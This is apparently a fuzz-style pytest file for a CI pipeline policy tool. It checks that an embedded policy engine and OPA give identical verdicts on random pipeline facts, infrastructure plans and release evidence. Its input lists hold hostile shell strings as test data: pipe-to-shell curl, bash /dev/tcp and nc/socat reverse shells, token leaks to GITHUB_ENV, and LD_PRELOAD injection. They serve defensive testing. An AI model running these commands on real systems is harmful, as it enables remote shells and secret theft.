"""Both engines say the same of every rule, whatever it is given: what differs would be a decision by chance."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Mapping
from itertools import chain
from types import UnionType
from typing import Any, Literal, get_args, get_origin

import pytest

from policyd.adapters.engines.embedded import EmbeddedEngine
from policyd.adapters.engines.opa import OpaEngine
from policyd.app.judging import make_pipeline_input, make_repository
from policyd.models.base import Model
from policyd.models.decision import Gate
from policyd.models.facts import Facts
from policyd.policy.catalogue import DIALECTS
from policyd.policy.policy_set import PolicySet
from tests.policies.test_examples import EXAMPLES, NOW, read_example

TEXTS = [
    "",
    "curl -k https://x.example | sh",
    "bash -i >& /dev/tcp/203.0.113.9/1 0>&1",
    'echo "$TOKEN" >> $GITHUB_ENV',
    "export LD_PRELOAD=./x.so PATH=.:/bin",
    "git -c http.sslVerify=false clone http://example.com/x",
    "docker run --privileged -v /var/run/docker.sock:/s x",
    "é\u2028\u202eλ ☃",
    "::set-output name=x::y",
    "${{ secrets.TOKEN }} ${{ x }}",
    "fromJSON(secrets.X).y",
    "pip install requests==2",
    "a\nb\tc",
    "$(",
    "[[[",
    "GOSUMDB=off go build",
    "%s%d%v%",
    "\\",
]
WORDS = [
    "curl",
    "wget",
    "sh",
    "bash",
    "-c",
    "-k",
    "-fsSLk",
    "$CMD",
    "${X}",
    "eval",
    "pip",
    "install",
    "-r",
    "requests",
    "npm",
    "http://example.com/x",
    "https://x",
    "docker",
    "run",
    "--privileged",
    "nc",
    "-e",
    "/bin/sh",
    "python3",
    "-m",
    "pip",
    "-",
    "pytest",
    "true",
    "true",
    ":",
    "set",
    "-x",
    "env",
    "é",
    "",
    "-o",
    "/dev/null",
    "git",
    "go",
    "x@latest",
    "socat",
    "EXEC:/bin/sh",
]
NAMES = [
    "TOKEN",
    "DEPLOY_PASSWORD",
    "LD_PRELOAD",
    "PATH",
    "NODE_OPTIONS",
    "GIT_SSL_NO_VERIFY",
    "NODE_TLS_REJECT_UNAUTHORIZED",
    "ACTIONS_STEP_DEBUG",
    "ACTIONS_ALLOW_UNSECURE_COMMANDS",
    "PIP_INDEX_URL",
    "GOSUMDB",
    "password",
    "é",
    "",
]
VALUES = [
    "true",
    "1",
    "0",
    "off",
    "",
    ".:/bin",
    "--require ./x",
    "http://u@example.com/simple",
    "9f8e7d6c5b4a39281706",
    "${{ secrets.TOKEN }}",
    "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345",
    "é",
    "./x.so",
]


#: Denies nothing until a setting says what.
SILENT = {"policyd.dependencies.forbidden_component.deny"}


def facts(chance: random.Random) -> dict[str, Any]:
    """Facts as no front end would hand them over: every field of the model, in every combination, with odd words."""

    def value(name: str, annotation: Any, at: list[str | int]) -> Any:
        if annotation is bool:
            return chance.random() < 0.5
        if name == "at":
            return at
        if name == "stage" or (name, at[0]) == ("name", "stages"):
            return chance.choice(["", "a", "a", "a", "b"])
        origin, parts = get_origin(annotation), get_args(annotation)
        if origin is Literal:
            return chance.choice(parts)
        if origin is UnionType:
            return None if chance.random() < 0.3 else value(name, parts[0], at)
        if origin is list:
            return [value(name, parts[0], at) for _ in range(chance.randrange(4))] or (["x"] if name == "argv" else [])
        if origin is tuple:
            return chance.choice([[], ["effects", 0], ["expressions", 0]])
        if origin is dict:
            return {chance.choice(NAMES): chance.choice(VALUES) for _ in range(chance.randrange(3))}
        return (
            chance.choice([60, 7200])
            if annotation is int
            else chance.choice(chance.choice([TEXTS, WORDS, NAMES, VALUES]))
        )

    def fact(model: type[Model], at: list[str | int]) -> dict[str, Any]:
        return {name: value(name, field.annotation, at) for name, field in model.model_fields.items()}

    document: dict[str, Any] = {
        name: [fact(get_args(field.annotation)[0], [name, index]) for index in range(chance.randrange(5))]
        for name, field in Facts.model_fields.items()
    }
    dialect = chance.choice(DIALECTS)
    ref = {"path": "ci.yml", "dialect": dialect, "kind": chance.choice(["pipeline", "action"]), "name": "ci"}
    return document | {"pipeline": ref, "repository": {"pipelines": [ref]}, "governance": "self", "document": {}}


def examples(files: Mapping[str, bytes]) -> Iterator[dict[str, Any]]:
    """What rules see of the examples that break them."""
    for path in EXAMPLES:
        if path.rpartition("/")[2].startswith("bad"):
            pipelines = read_example(path, files)
            document = make_pipeline_input(pipelines[0], make_repository(pipelines), governance="self", now=NOW)
            yield document.model_dump(mode="json")


def anything(chance: random.Random, depth: int = 0) -> Any:
    """A JSON value of any shape."""
    keys = ["kind", "metadata", "name", "spec", "containers", "items", "change", "after", "type", "image", "privileged"]
    leaves = [None, True, False, 0, 1.5, -1, "", "Pod", "List", "aws_s3_bucket", "delete", "0.0.0.0/0", "é", "ALL"]
    if depth > 3 or chance.random() < 0.4:
        return chance.choice(leaves)
    if chance.random() < 0.4:
        return [anything(chance, depth + 1) for _ in range(chance.randrange(3))]
    return {key: anything(chance, depth + 1) for key in chance.sample(keys, chance.randrange(5))}


def infrastructure(chance: random.Random) -> Any:
    """A Terraform plan or Kubernetes manifests, in which anything may stand in the place of any part."""

    def part(value: Any) -> Any:
        return anything(chance) if chance.random() < 0.08 else value

    def pick(*choices: Any) -> Any:
        return part(chance.choice(choices))

    def rule() -> dict[str, Any]:
        return {
            "type": pick("ingress", "egress"),
            "from_port": pick(22, 0, 443),
            "to_port": pick(22, 65535, 443),
            "protocol": pick("tcp", "-1"),
            "cidr_blocks": pick(["0.0.0.0/0"], ["10.0.0.0/8"], []),
            "ipv6_cidr_blocks": pick(None, ["::/0"]),
        }

    def change() -> dict[str, Any]:
        kind, after = chance.choice(
            [
                ("aws_s3_bucket", {"acl": pick("private", "public-read")}),
                ("aws_s3_bucket_public_access_block", {"block_public_acls": pick(True, False)}),
                ("google_storage_bucket_iam_binding", {"members": pick(["allUsers"], ["user:a@example.com"])}),
                ("google_storage_bucket_iam_member", {"member": pick("allUsers", "user:a@example.com")}),
                ("azurerm_storage_container", {"container_access_type": pick("blob", "private")}),
                ("aws_security_group", {"ingress": part([part(rule())])}),
                ("aws_security_group_rule", rule()),
                (
                    "aws_vpc_security_group_ingress_rule",
                    {"cidr_ipv4": pick("0.0.0.0/0"), "ip_protocol": pick("tcp", "-1")},
                ),
                (
                    "google_compute_firewall",
                    {
                        "source_ranges": pick(["0.0.0.0/0"]),
                        "allow": part([part({"ports": part([pick("22", "80-90")])})]),
                    },
                ),
                ("aws_db_instance", {"storage_encrypted": pick(True, False)}),
                ("aws_ebs_volume", {"encrypted": pick(True, False, None)}),
            ]
        )
        return {
            "address": part(f"{kind}.x"),
            "type": part(kind),
            "change": part({"actions": pick(["create"], ["delete"], ["delete", "create"]), "after": part(after)}),
        }

    def container() -> dict[str, Any]:
        return {
            "name": "a",
            "image": pick("web:1", f"web@sha256:{'0' * 64}"),
            "securityContext": part(
                {"privileged": pick(True, False), "capabilities": part({"add": pick(["ALL"], [])})}
            ),
            "resources": part({"limits": part({"memory": pick("1Gi", None)})}),
        }

    def workload() -> Any:
        spec = {
            "hostPID": pick(True, False),
            "containers": part([part(container())]),
            "initContainers": part([part(container())]),
            "volumes": part([part({"hostPath": part({"path": "/"})})]),
        }
        kind = chance.choice(["Pod", "Deployment", "CronJob"])
        inner: dict[str, Any] = {
            "Pod": {"spec": spec},
            "Deployment": {"spec": {"template": {"spec": spec}}},
            "CronJob": {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}},
        }[kind]
        found = {"kind": part(kind), "metadata": part({"name": part("web")}), **inner}
        return {"kind": "List", "items": part([part(found)])} if chance.random() < 0.2 else found

    if chance.random() < 0.5:
        return part({"resource_changes": part([part(change()) for _ in range(3)])})
    return part([part(workload()) for _ in range(chance.randrange(3))]) if chance.random() < 0.7 else part(workload())


def evidence(chance: random.Random) -> dict[str, Any]:
    """Evidence, decisions and results as the stage and release gates see them; results of any shape."""

    def pick(*choices: Any) -> Any:
        return chance.choice(choices)

    def entry() -> dict[str, Any]:
        return {
            "stage": pick("build", "test"),
            "kind": pick("build", "test"),
            "state": pick("succeeded", "succeeded", "failed"),
            "definition_sha256": "d",
            "run_id": pick("r1", "r1", "r2"),
            "plan_sha256": pick("p1", "p1", "p2"),
            "predicate_types": pick([], ["https://slsa.dev/provenance/v1"]),
            "signers": [],
            "products": pick(
                [], [{"output": "wheel", "path": "x", "type": "f", "sha256": pick("d1", "d2"), "size": 1}]
            ),
            "results": pick(
                [],
                [
                    {
                        "name": "n",
                        "kind": pick("junit", "sarif", "sbom"),
                        "path": "x",
                        "sha256": "d",
                        "passed": pick(True, False, None),
                        "counts": pick({}, {"error": 0}, {"error": 3}),
                    }
                ],
            ),
            "sandbox": pick("bwrap", "none", ""),
        }

    def attestation() -> dict[str, Any]:
        approval = "https://policyd.dev/attestation/approval/v1"
        verified = pick(True, True, False)
        return {
            "sha256": "a" * 64,
            "predicate_type": pick(approval, "https://slsa.dev/provenance/v1"),
            "verified": verified,
            "check": 0 if verified else 4,
            "reason": "" if verified else "not signed",
            "listed": pick(True, False),
            "origin": pick("run", "given"),
            "about_artifact": pick(True, False),
            "subjects": [],
            "signers": [{"person": pick("ann", "bob"), "role": "approver"}],
            "fields": pick({}, {"/target": "local", "/requested_by": "ann"}, {"/x": "y"}),
            "fields_complete": True,
            "run_id": pick("", "r1", "r2"),
            "commit": pick("", "c", "d"),
            "time": "",
            "time_source": "none",
            "age_seconds": pick(None, 10),
        }

    return {
        "run_id": pick("r1", "r1", ""),
        "attestations": [attestation() for _ in range(chance.randrange(4))],
        "governance": pick("self", "operator"),
        "target": "local",
        "requester": {"identity": "me", "verified": pick(True, False)},
        "plan": {
            "sha256": "p1",
            "sandbox": pick("bwrap", "none"),
            "source": {"sha256": "s", "files": 1, "commit": pick(None, "c"), "clean": pick(None, True, False)},
        },
        "stage": {
            "name": "release",
            "kind": pick("deploy", "deploy", "package", "scan"),
            "needs": pick([], ["build"], ["build", "test"]),
            "products": pick([], ["build.wheel"], ["test.log"]),
        },
        "artifact": {"name": "x", "sha256": "d1", "stage": "build", "output": "wheel", "type": "f"},
        "evidence": [entry() for _ in range(chance.randrange(4))],
        "decisions": [
            {
                "gate": pick("pipeline", "stage"),
                "verdict": pick("allow", "allow", "deny"),
                "stage": pick("", "build", "test"),
                "sha256": "d",
                "weakened": pick([], ["x"]),
            }
            for _ in range(chance.randrange(4))
        ],
        "results": [{"stage": "a", "name": "r", "kind": "json", "document": infrastructure(chance)} for _ in range(3)],
    }


def ordered(value: object) -> object:
    return sorted(value, key=json.dumps) if isinstance(value, list) else value


@pytest.mark.parametrize("gate", list(Gate))
def test_every_rule_answers_alike_whatever_it_is_given(
    gate: Gate, library: PolicySet, files: Mapping[str, bytes], embedded: EmbeddedEngine, opa_engine: OpaEngine
) -> None:
    rules = [rule for rule in library.catalogue.values() if rule.gate is gate]
    entrypoints = [rule.entrypoint for rule in rules]
    fired: set[str] = set()
    chance = random.Random(f"policyd {gate}")
    made: Iterator[dict[str, Any]] = (facts(chance) if gate is Gate.PIPELINE else evidence(chance) for _ in range(150))

    for document in chain(made, examples(files) if gate is Gate.PIPELINE else ()):
        content = json.dumps(document).encode()
        ours, theirs = embedded.query(entrypoints, content), opa_engine.query(entrypoints, content)
        for entrypoint in entrypoints:
            assert ours[entrypoint].error is None, (entrypoint, document)
            assert theirs[entrypoint].error is None, (entrypoint, document)
            assert ordered(ours[entrypoint].value) == ordered(theirs[entrypoint].value), (entrypoint, document)
            if ours[entrypoint].value:
                fired.add(entrypoint)

    # Inputs that no rule minds would compare nothing.
    assert set(entrypoints) - fired <= SILENT
